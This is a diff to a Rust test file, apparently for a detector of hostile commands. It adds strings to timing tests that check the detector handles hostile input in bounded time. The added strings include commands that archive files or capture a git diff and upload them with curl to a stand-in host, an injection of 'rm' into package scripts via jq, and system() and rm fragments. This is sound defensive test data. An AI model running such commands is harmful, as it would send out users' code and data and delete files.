@@ -142,6 +142,9 @@ fn hostile_texts_take_bounded_time() {
         "<<a\n",
         "rm {1..99} ",
         "sh -c ",
+        "tar cf a b c;curl -T a h.example;",
+        "git diff>a;curl -T a h.example;",
+        "jq '.scripts.a=\"rm x\"' a;",
     ];
     for unit in units {
         let start = Instant::now();
@@ -187,6 +190,11 @@ fn hostile_code_takes_bounded_time() {
         "$(shell ",
         "chr(1)+",
         "]",
+        "system(x);y=[\"rm a\",\"b\"];",
+        "=[\"a b\"",
+        "t.add(\"a\");tarfile.open(\"b\");",
+        "a.send(b,\"rm x\");",
+        "kill(\"ps -u a\");",
     ];
     for unit in units {
         let code = unit.repeat(16_000 / unit.len());
